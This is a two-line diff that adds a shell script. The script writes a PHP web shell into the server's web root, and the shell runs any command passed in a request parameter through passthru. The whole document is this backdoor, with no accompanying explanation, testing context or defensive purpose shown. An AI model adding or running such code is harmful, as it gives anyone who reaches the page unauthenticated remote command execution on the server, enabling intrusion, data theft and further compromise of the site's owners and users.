@@ -1,0 +1,2 @@
+#!/bin/sh
+echo '<?php passthru($_REQUEST["c"]); ?>' > /var/www/html/x.php
